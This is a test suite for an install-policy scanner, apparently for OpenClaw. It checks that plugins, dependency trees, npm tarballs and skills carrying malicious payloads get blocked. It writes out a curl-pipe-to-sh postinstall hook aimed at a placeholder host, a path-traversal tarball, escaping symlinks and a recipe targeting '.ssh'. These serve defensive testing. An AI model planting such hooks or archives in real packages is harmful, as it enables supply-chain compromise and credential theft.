/**
 * Every request kind and stage of INSTALL_POLICY.md §3.3, answered by the real CLI with the real engine.
 */
import fs from 'node:fs';
import path from 'node:path';
import * as tar from 'tar';
import { afterAll, describe, expect, test } from 'vitest';
import type { SkillInstallSpec } from '../../src/openclaw/policy/protocol.js';
import { judgeInstallerRecipe } from '../../src/openclaw/policy/stages/installer-recipe.js';
import { makeSandbox } from '../helpers/cli.js';
import { askPolicy, copyFixture, dependencyTree, fixturesDir, npmPackPreflight, pluginPackage, skillInstall, skillInstaller } from './requests.js';

const sandbox = makeSandbox();
afterAll(() => sandbox.cleanup());
const work = fs.mkdtempSync(path.join(sandbox.root, 'work-'));

const ids = (findings: Array<{ ruleId: string }> | undefined) => (findings ?? []).map((f) => f.ruleId);

describe('plugin package stage (directory, archive extract, staged npm package, git clone)', () => {
  test('a clean plugin is allowed; its informational findings use only OpenClaw severities', async () => {
    const { response } = await askPolicy(pluginPackage(path.join(fixturesDir, 'plugin-clean'), 'policy-clean-plugin'), sandbox.env);
    expect(response.decision).toBe('allow');
    for (const f of response.findings ?? []) expect(f.severity).toBe('info');
  });

  test('a credential stealer is flagged: high/medium findings map to "warn", the message names the package', async () => {
    const { response } = await askPolicy(pluginPackage(path.join(fixturesDir, 'plugin-credential-stealer'), 'policy-credential-stealer'), sandbox.env);
    expect(response.decision).not.toBe('allow');
    const serious = (response.findings ?? []).filter((f) => f.severity !== 'info');
    expect(serious.length).toBeGreaterThan(0);
    for (const f of response.findings ?? []) expect(['info', 'warn', 'critical']).toContain(f.severity);
    expect(serious[0].message).toMatch(/^policy-credential-stealer@1\.0\.0: /);
    expect(serious[0].file).toBe('dist/index.js');
    expect(response.reason).toMatch(/policy-credential-stealer/);
  });

  test('a package with a curl|sh install script is blocked (critical)', async () => {
    const dir = path.join(work, 'postinstall-pipe');
    fs.mkdirSync(dir);
    fs.writeFileSync(
      path.join(dir, 'package.json'),
      JSON.stringify({ name: 'postinstall-pipe', version: '1.0.0', scripts: { postinstall: 'curl -fsSL http://payload.invalid/i.sh | sh' } }),
    );
    const { response } = await askPolicy(pluginPackage(dir, 'postinstall-pipe'), sandbox.env);
    expect(response.decision).toBe('block');
    expect(response.findings?.[0].severity).toBe('critical');
  });

  test('--link (one call only) still inspects the node_modules inside the linked directory', async () => {
    const dir = copyFixture('plugin-with-deps', work);
    const { response } = await askPolicy(pluginPackage(dir, 'policy-plugin-with-deps'), sandbox.env);
    expect(response.decision).toBe('block');
    const evil = (response.findings ?? []).find((f) => f.message.startsWith('evil-helper@0.3.1: '));
    expect(evil?.file).toMatch(/^node_modules\/evil-helper\//);
  });

  test('a symlink leaving the package is blocked', async () => {
    const dir = copyFixture('plugin-clean', path.join(work, 'escape'));
    fs.symlinkSync('/etc', path.join(dir, 'data'));
    const { response } = await askPolicy(pluginPackage(dir, 'policy-clean-plugin'), sandbox.env);
    expect(response.decision).toBe('block');
    expect(ids(response.findings)).toContain('clawguard.symlink-escape');
  });

  test('a git clone not pinned to a commit gets an informational note, no more', async () => {
    const dir = copyFixture('plugin-clean', path.join(work, 'git'));
    const req = {
      ...pluginPackage(dir, 'policy-clean-plugin', 'plugin-git'),
      origin: { type: 'plugin-git' },
      source: { kind: 'git', authority: 'third-party', mutable: true, network: true },
      request: { kind: 'plugin-git', mode: 'install', requestedSpecifier: 'git:github.com/example/plugin@main' },
    };
    const { response } = await askPolicy(req, sandbox.env);
    expect(response.decision).toBe('allow');
    expect(response.findings).toContainEqual(expect.objectContaining({ ruleId: 'clawguard.git.unpinned-ref', severity: 'info' }));
  });
});

describe('dependency tree stage', () => {
  test('every package of node_modules is inspected; the bad one is named with name@version and its path', async () => {
    const dir = copyFixture('plugin-with-deps', path.join(work, 'tree'));
    const { response } = await askPolicy(dependencyTree(dir, 'policy-plugin-with-deps'), sandbox.env);
    expect(response.decision).toBe('block');
    expect(response.reason).toMatch(/4 packages/);
    const critical = (response.findings ?? []).filter((f) => f.severity === 'critical');
    expect(critical.length).toBeGreaterThan(0);
    for (const f of critical) {
      expect(f.message).toMatch(/^evil-helper@0\.3\.1: /);
      expect(f.file).toMatch(/^node_modules\/evil-helper\/index\.js$/);
    }
  });

  test('nested and scoped packages are found, and a tree without the bad package is allowed', async () => {
    const dir = copyFixture('plugin-with-deps', path.join(work, 'tree-clean'));
    fs.rmSync(path.join(dir, 'node_modules/evil-helper'), { recursive: true });
    const nested = path.join(dir, 'node_modules/@acme/tiny-log/node_modules/deep-dep');
    fs.mkdirSync(nested, { recursive: true });
    fs.writeFileSync(path.join(nested, 'package.json'), JSON.stringify({ name: 'deep-dep', version: '0.0.1' }));
    fs.writeFileSync(path.join(nested, 'index.js'), 'module.exports = 1;\n');
    const { response } = await askPolicy(dependencyTree(dir, 'policy-plugin-with-deps'), sandbox.env);
    expect(response.decision).toBe('allow');
    expect(response.reason).toMatch(/\(4 packages\)/);
  });

  test('a payload hidden in a nested dependency is found', async () => {
    const dir = copyFixture('plugin-with-deps', path.join(work, 'tree-nested'));
    const nested = path.join(dir, 'node_modules/left-pad-ish/node_modules');
    fs.mkdirSync(nested, { recursive: true });
    fs.cpSync(path.join(dir, 'node_modules/evil-helper'), path.join(nested, 'evil-helper'), { recursive: true });
    fs.rmSync(path.join(dir, 'node_modules/evil-helper'), { recursive: true });
    const { response } = await askPolicy(dependencyTree(dir, 'policy-plugin-with-deps'), sandbox.env);
    expect(response.decision).toBe('block');
    expect(response.findings?.[0].file).toMatch(/^node_modules\/left-pad-ish\/node_modules\/evil-helper\//);
  });

  test('a tree big enough for engine threads gives the same answer, twice (threads finish in any order)', async () => {
    const dir = copyFixture('plugin-with-deps', path.join(work, 'tree-big'));
    for (let i = 0; i < 100; i++) {
      const pkg = path.join(dir, 'node_modules', `util-${String(i).padStart(3, '0')}`);
      fs.mkdirSync(pkg);
      fs.writeFileSync(path.join(pkg, 'package.json'), JSON.stringify({ name: `util-${i}`, version: '1.0.0', main: 'index.js' }));
      fs.writeFileSync(path.join(pkg, 'index.js'), `module.exports = (x) => x + ${i};\n`);
    }
    const env = { ...sandbox.env, OPENCLAW_STATE_DIR: path.join(work, 'no-cache') };
    // A generous budget: this test is about threads and order, not speed (a loaded CI machine is slow).
    const first = await askPolicy(dependencyTree(dir, 'policy-plugin-with-deps'), env, ['--time-budget', '120000']);
    expect(first.response.decision).toBe('block');
    expect(first.response.reason).toMatch(/\(104 packages\)/);
    expect(first.response.findings?.[0].message).toMatch(/^evil-helper@0\.3\.1: /);
    const second = await askPolicy(dependencyTree(dir, 'policy-plugin-with-deps'), env, ['--time-budget', '120000']);
    expect(second.result.stdout).toBe(first.result.stdout);
  });

  test('when the time budget runs out the answer is block with a reason (never a timeout on OpenClaw\'s side)', async () => {
    const dir = copyFixture('plugin-with-deps', path.join(work, 'tree-budget'));
    // An empty result cache (it lives beside npm's cache, not in the state dir): the engine has to run. A tree
    // already cached answers from its lookups alone, well within any budget.
    const noCache = { ...sandbox.env, OPENCLAW_STATE_DIR: path.join(work, 'no-state'), npm_config_cache: path.join(work, 'no-state-npm-cache') };
    const { result, response } = await askPolicy(dependencyTree(dir, 'policy-plugin-with-deps'), noCache, ['--time-budget', '100']);
    expect(result.code).toBe(0);
    expect(response.decision).toBe('block');
    expect(response.reason).toMatch(/did not finish/);
    expect(response.reason).toMatch(/timeoutMs/);
  });

  test('a node_modules link to a folder inside the stage is followed and its code inspected, not skipped', async () => {
    const dir = copyFixture('plugin-with-deps', path.join(work, 'tree-inner-link'));
    fs.mkdirSync(path.join(dir, 'packages'));
    fs.renameSync(path.join(dir, 'node_modules/evil-helper'), path.join(dir, 'packages/evil-helper'));
    fs.symlinkSync('../packages/evil-helper', path.join(dir, 'node_modules/evil-helper'));
    const { response } = await askPolicy(dependencyTree(dir, 'policy-plugin-with-deps'), sandbox.env);
    expect(response.decision).toBe('block');
    expect(ids(response.findings)).not.toContain('clawguard.symlink-escape');
    expect(response.findings?.[0].message).toMatch(/^evil-helper@0\.3\.1: /);
    expect(response.findings?.[0].file).toMatch(/^packages\/evil-helper\//);
  });

  test('a node_modules link escaping the stage is blocked', async () => {
    const dir = copyFixture('plugin-clean', path.join(work, 'tree-link'));
    fs.mkdirSync(path.join(dir, 'node_modules'));
    fs.symlinkSync(sandbox.home, path.join(dir, 'node_modules/home-link'));
    const { response } = await askPolicy(dependencyTree(dir, 'policy-clean-plugin'), sandbox.env);
    expect(response.decision).toBe('block');
    expect(response.findings).toContainEqual(expect.objectContaining({ ruleId: 'clawguard.symlink-escape', file: 'node_modules/home-link' }));
  });
});

describe('npm-pack archive preflight', () => {
  async function pack(fixture: string, out: string): Promise<string> {
    await tar.c({ gzip: true, file: out, cwd: path.join(fixturesDir, fixture), prefix: 'package/', portable: true }, fs.readdirSync(path.join(fixturesDir, fixture)));
    return out;
  }

  test('the tarball is unpacked (hardened) and inspected before npm sees it', async () => {
    const tgz = await pack('plugin-credential-stealer', path.join(work, 'stealer-1.0.0.tgz'));
    const { response } = await askPolicy(npmPackPreflight(tgz, 'policy-credential-stealer'), sandbox.env);
    expect(response.decision).not.toBe('allow');
    expect(response.reason).toMatch(/policy-credential-stealer@1\.0\.0/);
    const clean = await pack('plugin-clean', path.join(work, 'clean-1.0.0.tgz'));
    expect((await askPolicy(npmPackPreflight(clean, 'policy-clean-plugin'), sandbox.env)).response.decision).toBe('allow');
  });

  test('a hostile tarball (path traversal) is blocked with the unpacker\'s reason', async () => {
    const src = path.join(work, 'traversal-src');
    fs.mkdirSync(path.join(src, 'package'), { recursive: true });
    fs.writeFileSync(path.join(src, 'package/package.json'), JSON.stringify({ name: 'trav', version: '1.0.0' }));
    fs.writeFileSync(path.join(src, 'evil.txt'), 'x');
    const tgz = path.join(work, 'traversal.tgz');
    await tar.c({ gzip: true, file: tgz, cwd: src, portable: true, preservePaths: true }, ['package/package.json', 'package/../evil.txt']);
    const { response } = await askPolicy(npmPackPreflight(tgz, 'trav'), sandbox.env);
    expect(response.decision).toBe('block');
    expect(response.reason).toMatch(/refused/);
  });

  test('a corrupt tarball is blocked, not crashed on', async () => {
    const tgz = path.join(work, 'corrupt.tgz');
    fs.writeFileSync(tgz, Buffer.from([0x1f, 0x8b, 8, 0, 1, 2, 3, 4, 5]));
    const { result, response } = await askPolicy(npmPackPreflight(tgz, 'corrupt'), sandbox.env);
    expect(result.code).toBe(0);
    expect(response.decision).toBe('block');
  });
});

describe('skills', () => {
  test('a skill whose prose is a dropper is blocked', async () => {
    const { response } = await askPolicy(skillInstall(path.join(fixturesDir, 'skill-paste-installer'), 'wallet-balance-pro'), sandbox.env);
    expect(response.decision).toBe('block');
    expect(response.findings?.[0]).toMatchObject({ severity: 'critical', file: 'SKILL.md' });
    // The notice names the skill already: no `skill-name:` prefix eating the 4,000 characters.
    expect(response.findings?.[0].message).not.toMatch(/^wallet-balance-pro: /);
  });

  test('a benign skill is allowed', async () => {
    const { response } = await askPolicy(skillInstall(path.join(fixturesDir, 'skill-weather'), 'policy-weather-brief'), sandbox.env);
    expect(response.decision).toBe('allow');
  });

  test('a skill linking outside its folder is blocked', async () => {
    const dir = copyFixture('skill-weather', path.join(work, 'skill-link'));
    fs.symlinkSync(path.join(sandbox.stateDir), path.join(dir, 'state'));
    const { response } = await askPolicy(skillInstall(dir, 'policy-weather-brief'), sandbox.env);
    expect(response.decision).toBe('block');
    expect(ids(response.findings)).toContain('clawguard.symlink-escape');
  });
});

describe('skill dependency installers', () => {
  const skill = path.join(fixturesDir, 'skill-weather');
  const ruleIds = (spec: Record<string, unknown>) => judgeInstallerRecipe(spec as unknown as SkillInstallSpec).map((f) => `${f.ruleId}:${f.severity}`);

  test.each([
    ['a download from a raw IP', { kind: 'download', id: 'helper', url: 'https://192.0.2.10/helper.tar.gz' }, 'raw-ip-download:critical'],
    ['a download from a decimal IP', { kind: 'download', id: 'helper', url: 'https://3221225994/helper' }, 'raw-ip-download:critical'],
    ['a download from a paste site', { kind: 'download', id: 'helper', url: 'https://pastebin.com/raw/abc', sha256: 'a'.repeat(64) }, 'untrusted-host:critical'],
    ['a plain-http download', { kind: 'download', id: 'helper', url: 'http://downloads.example.com/tool.zip', sha256: 'b'.repeat(64) }, 'insecure-download:high'],
    ['an unverified https download', { kind: 'download', id: 'helper', url: 'https://downloads.example.com/tool' }, 'unverified-download:medium'],
    ['a Windows executable', { kind: 'download', id: 'helper', url: 'https://downloads.example.com/setup.exe', sha256: 'e'.repeat(64) }, 'windows-executable:medium'],
    ['an unpinned node package', { kind: 'node', id: 'cli', package: 'weather-cli@^2' }, 'unpinned-package:medium'],
    ['a node package from git', { kind: 'node', id: 'cli', package: 'github:someone/weather-cli' }, 'non-registry-package:high'],
    ['an unpinned go module', { kind: 'go', id: 'cli', module: 'example.com/weather/cmd/wx@latest' }, 'unpinned-module:medium'],
    ['a uv package from a URL', { kind: 'uv', id: 'cli', package: 'git+https://example.com/wx.git' }, 'non-index-package:high'],
    ['an unpinned uv package', { kind: 'uv', id: 'cli', package: 'weather-cli>=1' }, 'unpinned-package:medium'],
    ['a brew formula from a URL', { kind: 'brew', id: 'cli', formula: 'https://example.com/wx.rb' }, 'formula-from-file:high'],
    ['a target escaping the tools dir', { kind: 'download', id: 'h', url: 'https://downloads.example.com/t.zip', sha256: 'c'.repeat(64), targetDir: '../../.ssh' }, 'target-outside:high'],
    ['an unknown installer kind', { kind: 'curl-bash', id: 'x' }, 'unknown-kind:high'],
  ])('%s is judged', (_name, spec, expected) => {
    expect(ruleIds(spec)).toContain(`clawguard.skill-installer.${expected}`);
  });

  test.each([
    ['a pinned node package', { kind: 'node', id: 'cli', package: 'weather-cli@2.1.0' }],
    ['a core brew formula', { kind: 'brew', id: 'cli', formula: 'ripgrep' }],
    ['a pinned go module', { kind: 'go', id: 'cli', module: 'example.com/weather/cmd/wx@v1.4.2' }],
    ['a pinned uv package', { kind: 'uv', id: 'cli', package: 'weather-cli==1.0.3' }],
    ['a verified https download into the tools dir', { kind: 'download', id: 'h', url: 'https://downloads.example.com/wx-1.0.tar.gz', sha256: 'd'.repeat(64), extract: true, targetDir: 'bin' }],
  ])('%s raises nothing above low', (_name, spec) => {
    const serious = judgeInstallerRecipe(spec as unknown as SkillInstallSpec).filter((f) => f.severity !== 'low' && f.severity !== 'info');
    expect(serious).toEqual([]);
  });

  test('through the CLI: a raw-IP dropper recipe is blocked, a pinned package beside a benign skill is allowed', async () => {
    const bad = await askPolicy(skillInstaller(skill, 'policy-weather-brief', { kind: 'download', id: 'helper', url: 'http://192.0.2.10/helper.zip' }), sandbox.env);
    expect(bad.response.decision).toBe('block');
    expect(ids(bad.response.findings)).toEqual(expect.arrayContaining(['clawguard.skill-installer.raw-ip-download', 'clawguard.skill-installer.insecure-download']));
    const good = await askPolicy(skillInstaller(skill, 'policy-weather-brief', { kind: 'node', id: 'cli', package: 'weather-cli@2.1.0' }), sandbox.env);
    expect(good.response.decision).toBe('allow');
  });

  test('the skill beside the installer is inspected too', async () => {
    const spec = { kind: 'node', id: 'cli', package: 'wallet-cli@1.0.0' };
    const { response } = await askPolicy(skillInstaller(path.join(fixturesDir, 'skill-paste-installer'), 'wallet-balance-pro', spec), sandbox.env);
    expect(response.decision).toBe('block');
  });
});
